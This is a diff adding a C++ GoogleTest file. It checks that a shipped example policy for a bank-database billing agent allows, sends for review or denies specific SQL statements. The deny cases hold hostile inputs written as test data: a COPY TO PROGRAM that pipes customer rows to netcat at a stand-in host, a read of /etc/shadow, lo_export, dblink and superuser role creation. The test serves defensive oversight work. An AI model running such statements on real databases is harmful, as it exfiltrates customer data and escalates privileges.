@@ -1,0 +1,74 @@
+// The example policy shipped for the bank scenario (packaging/examples/bank-policy.yaml,
+// installed as policy.yaml.example and quoted in the README) decides as its comments say,
+// on statements classified by the real grammar.
+#include "gmock/gmock.h"
+#include "gtest/gtest.h"
+#include "userspace/policy/loader.h"
+#include "userspace/sql/classify.h"
+
+namespace interlock::policy {
+namespace {
+
+struct Case {
+  std::string sql;
+  v1::Action action;
+  std::string rule;
+};
+
+class ShippedBankPolicy : public ::testing::TestWithParam<Case> {
+ protected:
+  static void SetUpTestSuite() {
+    auto eval = LoadPolicyFile(INTERLOCK_BANK_POLICY);
+    ASSERT_TRUE(eval.ok()) << eval.status();
+    eval_ = std::move(*eval).release();
+  }
+  static PolicyEvaluator* eval_;
+};
+PolicyEvaluator* ShippedBankPolicy::eval_ = nullptr;
+
+TEST_P(ShippedBankPolicy, Decides) {
+  const Case& c = GetParam();
+  auto sql = sql::Classify(c.sql);
+  ASSERT_TRUE(sql.ok());
+  Decision d = eval_->Evaluate({.workload = "billing-agent"}, "bank-db", *sql);
+  EXPECT_EQ(ActionName(d.action), ActionName(c.action)) << c.sql << " -> " << d.rule_id;
+  EXPECT_EQ(d.rule_id, c.rule) << c.sql;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Bank, ShippedBankPolicy,
+    ::testing::Values(
+        // The agent may SELECT customers with a WHERE or a LIMIT.
+        Case{"SELECT name, email FROM customers WHERE id = 42", v1::ACTION_ALLOW, "allow-reads"},
+        Case{"SELECT name FROM customers LIMIT 10", v1::ACTION_ALLOW, "allow-reads"},
+        // A full-table read of customers, UPDATE/DELETE without WHERE, COPY TO and DDL: review.
+        Case{"SELECT * FROM customers", v1::ACTION_REVIEW, "review-full-customer-read"},
+        Case{"SELECT c.* FROM public.customers c JOIN accounts a ON a.cid = c.id", v1::ACTION_REVIEW,
+             "review-full-customer-read"},
+        Case{"UPDATE accounts SET balance = 0", v1::ACTION_REVIEW, "review-unfiltered-writes"},
+        Case{"DELETE FROM customers", v1::ACTION_REVIEW, "review-unfiltered-writes"},
+        Case{"DELETE FROM customers WHERE id = 9", v1::ACTION_ALLOW, "allow-filtered-writes"},
+        Case{"COPY customers TO STDOUT", v1::ACTION_REVIEW, "review-copy-out"},
+        Case{"COPY (SELECT ssn FROM customers WHERE id = 1) TO STDOUT", v1::ACTION_REVIEW, "review-copy-out"},
+        Case{"CREATE TABLE t (a int)", v1::ACTION_REVIEW, "review-ddl"},
+        Case{"TRUNCATE customers", v1::ACTION_REVIEW, "review-ddl"},
+        Case{"WITH x AS (DELETE FROM accounts WHERE id = 1 RETURNING id) SELECT count(*) FROM x", v1::ACTION_REVIEW,
+             "review-hidden-writes"},
+        // COPY PROGRAM, pg_read_file, lo_export, dblink and role changes: denied.
+        Case{"COPY customers TO PROGRAM 'nc evil 9'", v1::ACTION_DENY, "deny-copy-program"},
+        Case{"SELECT pg_read_file('/etc/shadow')", v1::ACTION_DENY, "deny-server-files-and-links"},
+        Case{"SELECT lo_export(16384, '/tmp/x')", v1::ACTION_DENY, "deny-server-files-and-links"},
+        Case{"SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", v1::ACTION_DENY,
+             "deny-server-files-and-links"},
+        Case{"CREATE ROLE eve SUPERUSER", v1::ACTION_DENY, "deny-role-changes"},
+        Case{"SET ROLE postgres", v1::ACTION_DENY, "deny-role-changes"},
+        Case{"GRANT SELECT ON customers TO eve", v1::ACTION_DENY, "deny-role-changes"},
+        Case{"DO $$BEGIN PERFORM 1; END$$", v1::ACTION_DENY, "deny-opaque-code"},
+        // Housekeeping passes; what nobody wrote a rule for goes to a human.
+        Case{"BEGIN", v1::ACTION_ALLOW, "allow-session-housekeeping"},
+        Case{"SET statement_timeout = '5s'", v1::ACTION_ALLOW, "allow-session-housekeeping"},
+        Case{"VACUUM customers", v1::ACTION_REVIEW, ""},
+        Case{"SELEC 1", v1::ACTION_DENY, ""}));
+
+}  // namespace
+}  // namespace interlock::policy
